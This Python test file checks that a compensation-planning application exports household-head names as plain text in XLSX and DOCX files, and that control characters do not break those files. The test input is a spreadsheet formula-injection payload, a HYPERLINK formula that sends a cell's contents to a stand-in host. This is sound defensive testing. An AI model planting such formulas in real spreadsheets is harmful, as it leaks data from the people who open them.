"""The plan sheet and the public summary hold names as text: a name that looks like a
formula stays text in XLSX, and control characters stored in a name never break the
XLSX or the DOCX (review findings 10 and 14)."""

import io
import zipfile

import pytest
from docx import Document
from openpyxl import load_workbook

from gpmb.core.choices import Role
from gpmb.parties.models import Party
from gpmb.plans.services import case_compute
from tests.plans.conftest import make_home

pytestmark = pytest.mark.django_db
NAME = '=HYPERLINK("http://127.0.0.1:9/?x="&A2,"Trần Văn Mẫu")'


def test_plan_sheet_and_summary_write_names_as_text(make_user, client):
    home = make_home(recovered="60.00", area="100.00")
    version = case_compute(case=home.case, actor=None)
    head = home.case.household.head
    Party.objects.filter(pk=head.pk).update(full_name=NAME + "\x0b\x1b")
    client.force_login(make_user(Role.COMPENSATION_OFFICER, project=home.project))
    for url in (
        f"/documents/plans/{version.pk}/sheet.xlsx",
        f"/documents/projects/{home.project.code}/summary.xlsx",
    ):
        response = client.get(url)
        assert response.status_code == 200, url
        with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
            sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
            assert all(b"<f>" not in archive.read(n) for n in sheets), url
        cells = [
            c for c in load_workbook(io.BytesIO(response.content)).active.iter_rows() for c in c
        ]
        name = next(c for c in cells if c.value == NAME)
        assert name.data_type == "s" and name.quotePrefix, url
    for url in (
        f"/documents/plans/{version.pk}/sheet.docx",
        f"/documents/projects/{home.project.code}/summary.docx",
    ):
        response = client.get(url)
        assert response.status_code == 200, url
        document = Document(io.BytesIO(response.content))
        text = "\n".join(
            [p.text for p in document.paragraphs]
            + [c.text for t in document.tables for r in t.rows for c in r.cells]
        )
        assert NAME in text, url
